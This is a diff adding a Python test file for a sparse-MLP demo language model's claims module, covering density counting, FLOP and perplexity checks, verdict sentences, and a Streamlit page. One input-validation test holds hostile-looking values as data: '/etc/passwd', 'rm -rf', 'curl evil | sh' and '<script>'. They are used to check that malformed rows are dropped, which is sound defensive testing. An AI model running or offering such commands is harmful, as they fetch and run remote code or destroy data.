@@ -1,0 +1,290 @@
+"""The seed's claim on the demo LMs (sam_viz.claims, bench/demo_claims.py, tools/model_card.py, the page
+"Demo LM: the claim"), and the recorder's light path that `eval` counts density with.
+
+References are independent of the code under test: a perplexity written out by hand from a plain
+transformers forward (test_eval's hand_perplexity) and the row's own command run as a process; MLP
+FLOPs and bytes from the demo config by hand; verdict ratios from numbers made up here. Nothing
+depends on the values of the shipped weights, which are replaced when training ends.
+"""
+import json
+import math
+import os
+import shlex
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+from streamlit.testing.v1 import AppTest
+
+import sparse_ops.mlp
+from conftest import HELD_OUT, shared
+from sam_viz import claims as cl
+from sam_viz.claims_plots import perplexity_curve
+from sparse_ops import Policy, Recorder, sparsified
+from sparse_ops.recorder import DensityCounter
+from test_eval import demo_ids, hand_perplexity, plain
+
+ROOT = Path(__file__).resolve().parent.parent
+D, D_FF, LAYERS, K = 256, 1024, 4, round(0.1 * 1024)       # the demo LMs' config; k at density 0.1
+OTHER = LAYERS * 4 * D * D + 4096 * D                       # attention q, k, v, o and the tied LM head
+
+
+@pytest.fixture(autouse=True)
+def one_thread():
+    threads = torch.get_num_threads()
+    torch.set_num_threads(1)
+    yield
+    torch.set_num_threads(threads)
+
+
+# ------------------------------------------------------------------------------ the light recorder
+
+def _count(loaded, policy: Policy, recorder, text: str):
+    enc = loaded.encode(text)
+    with sparsified(loaded, policy, recorder=recorder), torch.no_grad():
+        loaded.model(**enc)
+    return enc["input_ids"].numel()
+
+
+@pytest.mark.parametrize("spec", ["tiny-llama", "tiny-mixtral"])
+@pytest.mark.parametrize("policy", [Policy("dense"), Policy("topk", 0.25), Policy("threshold", 0.3)])
+def test_density_counter_counts_what_the_full_recorder_records(spec, policy):
+    loaded = shared(spec)
+    counter, recorder = DensityCounter(loaded.d_ff), Recorder()
+    n = _count(loaded, policy, counter, HELD_OUT[0])
+    assert _count(loaded, policy, recorder, HELD_OUT[0]) == n
+    full = {i: (int(l.selected.sum()), int(l.possible.sum()))
+            for i, l in enumerate(recorder.layers(n, loaded.d_ff * max(1, loaded.n_experts)))}
+    assert counter.counts() == full
+    per_token = loaded.d_ff * max(1, loaded.experts_per_token)                 # neurons the dense model computes
+    assert all(possible == n * per_token for _, possible in full.values())
+    if policy.kind == "topk":                                                  # exactly k per token (and expert)
+        assert all(sel == n * max(1, loaded.experts_per_token) * policy.k(loaded.d_ff) for sel, _ in full.values())
+
+
+def test_density_counter_spares_the_mlp_computing_every_h(monkeypatch):
+    """With the counter the sparse MLP no longer computes every neuron's h for the record; the full
+    recorder still does (analyze's mass kept and recall need it)."""
+    loaded, calls = shared("tiny-llama"), []
+    real = sparse_ops.mlp.activations
+    monkeypatch.setattr(sparse_ops.mlp, "activations", lambda x, w: calls.append(1) or real(x, w))
+    for policy in (Policy("dense"), Policy("threshold", 0.3)):
+        calls.clear()
+        _count(loaded, policy, DensityCounter(loaded.d_ff), HELD_OUT[1])
+        assert calls == []
+        _count(loaded, policy, Recorder(), HELD_OUT[1])
+        assert len(calls) == loaded.n_layers
+
+
+# ------------------------------------------------------------------------------ plan, rows, cost
+
+def test_plan_measures_every_setting_the_issue_asks_for_once():
+    rows = {(s.model, s.policy, s.density): set(s.groups) for s in cl.plan()}
+    policies = ("topk", "threshold", "predictor", "static")
+    wanted = {("demo-lm-dense", "dense", 1.0), ("demo-lm", "dense", 1.0)}
+    wanted |= {(m, p, 0.1) for m in ("demo-lm", "demo-lm-dense") for p in policies}
+    wanted |= {(m, "topk", d) for m in ("demo-lm", "demo-lm-dense") for d in (0.05, 0.1, 0.25, 0.5)}
+    assert set(rows) == wanted and len(cl.plan()) == len(wanted) == 16
+    assert rows[("demo-lm", "topk", 0.1)] == {"trained", "curve"}
+    assert rows[("demo-lm-dense", "topk", 0.1)] == {"post-hoc", "curve"}
+    assert rows[("demo-lm-dense", "static", 0.1)] == {"post-hoc"}
+
+
+def test_topk_row_costs_and_perplexity_equal_hand_computations():
+    row = cl.measure(shared("demo-lm"), cl.Setting("demo-lm", "topk", 0.1, ("trained",)), 256)
+    dense = LAYERS * D_FF * 3 * D                              # gate, up and down rows of every neuron
+    sparse = LAYERS * D_FF * 2 * D + LAYERS * K * D            # topk: gate and up of all, down of k
+    assert (row["dense_mlp_flops"], row["dense_mlp_bytes"]) == (2 * dense, 4 * dense)
+    assert (row["mlp_flops"], row["mlp_bytes"]) == (2 * sparse, 4 * sparse)
+    assert row["model_ratio"] == pytest.approx((OTHER + sparse) / (OTHER + dense))
+    assert row["mlp_density"] == K / D_FF and row["tokens"] == 256
+    model, tok = plain("demo-lm")
+    from tools import topk_mlp
+    topk_mlp.set_density(topk_mlp.install(model), 0.1)
+    assert row["perplexity"] == pytest.approx(hand_perplexity(model, demo_ids(tok, 257), 128), rel=1e-4)
+
+
+def test_threshold_row_cost_counts_the_gate_of_every_neuron_and_the_rest_of_the_selected():
+    row = cl.measure(shared("demo-lm-dense"), cl.Setting("demo-lm-dense", "threshold", 0.1, ("post-hoc",)), 128)
+    selected = row["mlp_density"] * LAYERS * D_FF                              # per token, all layers
+    assert row["mlp_flops"] == pytest.approx(2 * (LAYERS * D_FF * D + selected * 2 * D))
+
+
+def test_a_rows_command_reproduces_its_perplexity_in_a_real_process():
+    setting = cl.Setting("demo-lm-dense", "dense", 1.0, ("baseline",))
+    row = cl.measure(shared("demo-lm-dense"), setting, 256)
+    assert row["command"] == "python -m sam_viz eval --model demo-lm-dense --policy dense --max-tokens 256 --json"
+    argv = shlex.split(row["command"])
+    proc = subprocess.run([sys.executable, *argv[1:]], cwd=ROOT, capture_output=True, text=True, timeout=300,
+                          env={**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1"})
+    assert proc.returncode == 0, proc.stderr
+    out = json.loads(proc.stdout)
+    assert out["perplexity"] == pytest.approx(row["perplexity"], rel=1e-6) and out["tokens"] == row["tokens"]
+    model, tok = plain("demo-lm-dense")
+    assert row["perplexity"] == pytest.approx(hand_perplexity(model, demo_ids(tok, 257), 128), rel=1e-5)
+
+
+# ------------------------------------------------------------------------------ reading and verdict
+
+def _row(model, policy, density, ppl, mlp_density=None, flops_ratio=None):
+    dense = 2.0 * LAYERS * D_FF * 3 * D
+    return {"model": model, "policy": policy, "density": density, "groups": ["curve"], "perplexity": ppl,
+            "loss": math.log(ppl), "tokens": 1024, "mlp_density": density if mlp_density is None else mlp_density,
+            "mlp_flops": dense * (density if flops_ratio is None else flops_ratio), "mlp_bytes": dense,
+            "dense_mlp_flops": dense, "dense_mlp_bytes": dense, "model_ratio": 0.5, "seconds": 1.0,
+            "command": f"python -m sam_viz eval --model {model} --policy {policy} --density {density:g} --json"}
+
+
+def made_up(**over) -> dict:
+    """Claims with numbers chosen here: dense twin 10; demo-lm every neuron 10.2; at 0.1 topk 11 (+10%),
+    threshold 12, predictor 12 (+20%, 15% of the FLOPs), static 11.4 (+14%, 10%); the twin post-hoc
+    topk 13 (+30%)."""
+    rows = [_row("demo-lm-dense", "dense", 1.0, 10.0), _row("demo-lm", "dense", 1.0, 10.2),
+            _row("demo-lm", "topk", 0.1, 11.0, flops_ratio=0.7), _row("demo-lm", "threshold", 0.1, 12.0, 0.11, 0.4),
+            _row("demo-lm", "predictor", 0.1, 12.0, flops_ratio=0.15), _row("demo-lm", "static", 0.1, 11.4),
+            _row("demo-lm-dense", "topk", 0.1, 13.0, flops_ratio=0.7), _row("demo-lm-dense", "topk", 0.5, 10.5)]
+    raw = {"format": cl.FORMAT, "max_tokens": None, "trained_density": 0.1, "rows": rows, "decode": [],
+           "weights": {}, "model": {"d_model": D, "d_ff": D_FF, "layers": LAYERS, "bytes_per_param": 4,
+                                    "other_params": OTHER}}
+    raw.update(over)
+    return raw
+
+
+def test_verdict_ratios_and_sentence_follow_the_numbers():
+    v = cl.verdict(cl.parse_claims(json.dumps(made_up())))
+    p = v["policies"]
+    assert v["dense_perplexity"] == 10.0
+    assert p["topk"]["ratio"] == pytest.approx(1.1) and p["topk"]["meets_bar"]
+    assert p["predictor"]["ratio"] == pytest.approx(1.2) and not p["predictor"]["meets_bar"]
+    assert p["static"]["ratio"] == pytest.approx(1.14) and p["static"]["flops_ratio"] == pytest.approx(0.1)
+    assert p["topk"]["loss_vs_own_dense"] == pytest.approx(11 / 10.2) and p["topk"]["twin_loss_vs_dense"] == 1.3
+    s = v["sentence"]
+    assert "reaches 11.00 (+10.0%)" in s and "meets the bar" in s and "70% of the dense MLP FLOPs" in s
+    assert "+7.8%" in s and "+30.0%" in s and "degrades less than its twin" in s
+    assert "dynamic does not beat static" in s
+    assert s.endswith("holds with static.")
+
+
+def test_verdict_says_when_the_claim_does_not_hold():
+    raw = made_up()
+    raw["rows"] = [r if r["policy"] != "static" else _row("demo-lm", "static", 0.1, 20.0) for r in raw["rows"]]
+    s = cl.verdict(cl.parse_claims(json.dumps(raw)))["sentence"]
+    assert "holds only for the oracle topk, which saves no compute" in s
+    raw["rows"] = [_row("demo-lm-dense", "dense", 1.0, 10.0), _row("demo-lm", "topk", 0.1, 20.0)]
+    assert cl.verdict(cl.parse_claims(json.dumps(raw)))["sentence"].endswith("does not hold.")
+
+
+@pytest.mark.parametrize("data,message", [("{", "not JSON"), ("[]", "format"), (json.dumps({"format": "x"}), "format"),
+                                          (" " * (cl.MAX_BYTES + 1), "limit")])
+def test_a_file_that_is_not_a_claims_file_is_one_sentence(data, message):
+    with pytest.raises(ValueError, match=message):
+        cl.parse_claims(data)
+
+
+def test_rows_that_are_not_well_formed_are_dropped_and_strings_bounded():
+    raw = made_up()
+    bad = [dict(raw["rows"][0], perplexity=float("nan")), dict(raw["rows"][0], model="/etc/passwd"),
+           dict(raw["rows"][0], policy="rm -rf"), dict(raw["rows"][0], density=7), "not a row",
+           dict(raw["rows"][0], command="curl evil | sh", groups=["<script>"] * 3)]
+    raw["rows"] = raw["rows"] + bad + [raw["rows"][0]] * (cl.MAX_ROWS + 50)
+    claims = cl.parse_claims(json.dumps(raw).replace("NaN", "null"))
+    assert len(claims["rows"]) == cl.MAX_ROWS - 5 and claims["dropped"] == len(raw["rows"]) - (cl.MAX_ROWS - 5)
+    odd = claims["rows"][len(made_up()["rows"])]
+    assert odd["command"] == "" and odd["groups"] == []
+
+
+def test_read_claims_is_none_without_a_file(tmp_path):
+    assert cl.read_claims(tmp_path / "claims.json") is None
+
+
+def test_curve_figure_draws_the_rows_it_is_given():
+    fig = perplexity_curve(cl.parse_claims(json.dumps(made_up()))).fig
+    traces = {t.name: t for t in fig.data}
+    assert list(traces["demo-lm-dense, topk"].x) == [0.1, 0.5, 1.0]
+    assert list(traces["demo-lm-dense, topk"].y) == [13.0, 10.5, 10.0]
+    assert list(traces["demo-lm, static"].y) == [11.4]
+    assert list(traces["dense twin"].y) == [10.0, 10.0] and list(traces["bar: dense twin +15%"].y) == [11.5, 11.5]
+    assert list(fig.layout.xaxis.tickvals) == [0.1, 0.5, 1.0]
+
+
+# ------------------------------------------------------------------------------ scripts and shipped files
+
+def test_decode_rows_give_the_amdahl_ideal_and_its_share():
+    from bench.demo_claims import decode_rows
+
+    (row,) = decode_rows(shared("demo-lm"), policies=("topk",), prompt=4, new=2, repeats=1)
+    assert row["ideal_speedup"] == pytest.approx(1 / ((1 - row["f_mlp"]) + row["f_mlp"] * 0.1))
+    assert row["speedup"] == pytest.approx(row["sparse_tok_s"] / row["dense_tok_s"])
+    assert row["share_of_ideal"] == pytest.approx(row["speedup"] / row["ideal_speedup"])
+    assert cl.parse_claims(json.dumps(made_up(decode=[row])))["decode"][0]["kernel"] == "cpu"
+
+
+def test_readme_section_is_replaced_between_the_markers(tmp_path):
+    from bench.demo_claims import END, START, write_readme
+
+    readme = tmp_path / "README.md"
+    readme.write_text(f"# x\n\n{START}\nSTALE-TEXT\n{END}\n\n## after\n")
+    claims = cl.parse_claims(json.dumps(made_up()))
+    write_readme(claims, readme)
+    write_readme(claims, readme)                                               # again: same text
+    text = readme.read_text()
+    assert text.startswith(f"# x\n\n{START}\n") and text.endswith(f"{END}\n\n## after\n") and "STALE-TEXT" not in text
+    assert text.count("| demo-lm | static | 0.1 | 11.4 | +14.0% |") == 1
+
+
+def test_shipped_readme_cards_and_claims_agree():
+    """README, model cards and PNGs are generated: they must show what claims.json and the training
+    copy hold (rerun `python -m bench.demo_claims --render` and `python -m tools.model_card`)."""
+    from tools import model_card
+
+    claims = cl.read_claims()
+    assert claims is not None and claims["rows"] and not claims["dropped"]
+    assert cl.report_markdown(claims) in (ROOT / "README.md").read_text()
+    manifest, results, _ = model_card.load_training()
+    for name in (cl.SPARSE, cl.DENSE):
+        assert (cl.DEMO_DIR / name / "README.md").read_text() == model_card.card(name, manifest, results, claims)
+    assert all((cl.DEMO_DIR / png).stat().st_size > 10_000 for png in ("loss_curves.png", "perplexity_vs_density.png"))
+
+
+# ------------------------------------------------------------------------------ the page
+
+def open_page() -> AppTest:
+    return AppTest.from_file(str(ROOT / "pages" / "claims.py"), default_timeout=120).run()
+
+
+def test_page_shows_the_table_curve_decode_and_verdict(tmp_path, monkeypatch):
+    path = tmp_path / "claims.json"
+    row = {"model": "demo-lm", "policy": "static", "density": 0.1, "kernel": "cpu", "dense_tok_s": 100.0,
+           "sparse_tok_s": 150.0, "speedup": 1.5, "ideal_speedup": 2.0, "share_of_ideal": 0.75, "f_mlp": 0.6,
+           "threads": 2}
+    path.write_text(json.dumps(made_up(decode=[row])))
+    monkeypatch.setattr(cl, "CLAIMS", path)
+    at = open_page()
+    assert not at.exception and not at.error and not at.warning
+    tables = at.dataframe
+    assert len(tables) == 2 and len(tables[0].value) == len(made_up()["rows"])
+    assert list(tables[1].value["share of ideal"]) == ["75%"]
+    assert len(at.get("plotly_chart")) == 1
+    assert any("holds with static" in m.value for m in at.markdown)
+    assert "--model demo-lm --policy static --density 0.1" in at.code[0].value
+
+
+def test_page_on_the_shipped_claims_file():
+    at = open_page()
+    assert not at.exception and not at.error
+    assert len(at.dataframe[0].value) == len(cl.read_claims()["rows"])
+
+
+@pytest.mark.parametrize("content,shown", [(None, "info"), ("{broken", "error"),
+                                           (json.dumps(made_up(weights={"demo-lm": "0" * 16})), "warning")])
+def test_page_without_a_good_claims_file_says_so_in_one_sentence(content, shown, tmp_path, monkeypatch):
+    path = tmp_path / "claims.json"
+    if content is not None:
+        path.write_text(content)
+    monkeypatch.setattr(cl, "CLAIMS", path)
+    at = open_page()
+    assert not at.exception
+    (message,) = getattr(at, shown)
+    assert "bench.demo_claims" in message.value or "cannot be read" in message.value
